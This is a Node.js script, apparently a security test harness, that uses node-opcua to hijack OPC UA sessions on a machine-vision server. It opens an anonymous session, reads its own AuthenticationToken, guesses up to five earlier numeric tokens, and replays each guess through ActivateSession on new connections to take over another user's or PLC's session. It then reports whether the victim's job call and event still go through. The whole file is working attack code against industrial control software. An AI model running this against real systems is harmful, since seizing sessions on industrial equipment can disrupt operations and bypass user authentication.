// node-opcua as a hostile client taking over another client's session. OPC UA lets a client whose
// connection dropped reactivate its session on a new secure channel: ActivateSession names the session by
// the AuthenticationToken the server gave it at CreateSession, a secret. The victim (a user session, a PLC)
// subscribes to the ResultReady events; the hostile client opens an anonymous session of its own, looks at
// its own AuthenticationToken, and guesses the victim's from it (the ones before it, when they are
// numbers), each guess sent as an anonymous ActivateSession on a fresh connection. Then the victim calls
// StartSingleJob (as the user it logged in as) and waits for the job's event. Prints one JSON line:
//   {kind: "hijack", ownToken, ownTokenType (NUMERIC, BYTESTRING...), ownTokenBytes (a ByteString's length), guesses: {TOKEN: status of the ActivateSession}, taken: a guess answered
//    Good, callStatus: the victim's StartSingleJob afterwards, delivered: whether its event came}
// Usage: node hijack.js URL USER PASSWORD
const { AttributeIds, MessageSecurityMode, NodeId, OPCUAClient, SecurityPolicy,
  TimestampsToReturn, UserTokenType, constructEventFilter, makeBrowsePath } = require("node-opcua-client");
const { NS, string, userSession } = require("./vision");

const [url, user, password] = process.argv.slice(2);
const say = (o) => process.stdout.write(JSON.stringify(o) + "\n");
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const faultName = (error) => (String(error).match(/(Bad\w+)/) || [null, String(error)])[1];

const client = () => OPCUAClient.create({
  endpointMustExist: false, securityMode: MessageSecurityMode.None, securityPolicy: SecurityPolicy.None,
  connectionStrategy: { maxRetry: 0, initialDelay: 200 },
});

async function main() {
  const victim = await userSession(url, user, password);
  const ns = (await victim.session.readNamespaceArray()).indexOf(NS);
  const path = (p) => victim.session.translateBrowsePath(makeBrowsePath("RootFolder", `/Objects/${ns}:VisionSystem${p}`))
    .then((r) => r.targets[0].targetId);
  const [system, machine, start] = [await path(""), await path(`/${ns}:VisionStateMachine`),
    await path(`/${ns}:VisionStateMachine/${ns}:StartSingleJob`)];
  const subscription = await victim.session.createSubscription2({
    requestedPublishingInterval: 10, requestedLifetimeCount: 600, requestedMaxKeepAliveCount: 20,
    maxNotificationsPerPublish: 100, publishingEnabled: true, priority: 10,
  });
  const jobs = new Set();
  const item = await subscription.monitor(
    { nodeId: system, attributeId: AttributeIds.EventNotifier },
    { samplingInterval: 0, queueSize: 100, filter: constructEventFilter([`${ns}:JobId`]) }, TimestampsToReturn.Both);
  item.on("changed", (values) => jobs.add(values[0].value));
  await sleep(300);

  const own = client();
  await own.connect(url);
  const mine = await own.createSession({ type: UserTokenType.Anonymous });
  const ownToken = mine.authenticationToken;
  const guesses = {};
  let taken = null;
  const held = [];
  if (ownToken.identifierType === NodeId.NodeIdType.NUMERIC) {
    for (let back = 1; back <= 5 && taken === null; back += 1) {
      const guess = new NodeId(NodeId.NodeIdType.NUMERIC, ownToken.value - back, ownToken.namespace);
      const other = client();
      await other.connect(url);
      held.push(other);
      mine.authenticationToken = guess;
      try {
        await other.reactivateSession(mine);
        guesses[guess.toString()] = "Good";
        taken = guess.toString();
      } catch (error) {
        guesses[guess.toString()] = faultName(error);
      }
    }
  }

  let callStatus;
  let job = null;
  try {
    const result = await victim.session.call({ objectId: machine, methodId: start,
      inputArguments: [string(""), string("hijack"), string(""), string("")] });
    callStatus = result.statusCode.name;
    if (result.outputArguments.length) job = result.outputArguments[0].value;
  } catch (error) {
    callStatus = faultName(error);
  }
  for (let waited = 0; job !== null && waited < 5000 && !jobs.has(job); waited += 50) await sleep(50);
  const value = ownToken.value;
  say({ kind: "hijack", ownToken: ownToken.toString(), ownTokenType: NodeId.NodeIdType[ownToken.identifierType],
    ownTokenBytes: Buffer.isBuffer(value) ? value.length : null,
    guesses, taken, callStatus, delivered: job !== null && jobs.has(job) });
  for (const other of held) await other.disconnect().catch(() => {});
  await own.disconnect().catch(() => {});
  await victim.session.close().catch(() => {});
  await victim.client.disconnect();
}

main().catch((error) => { say({ kind: "error", message: String(error) }); process.exit(1); });
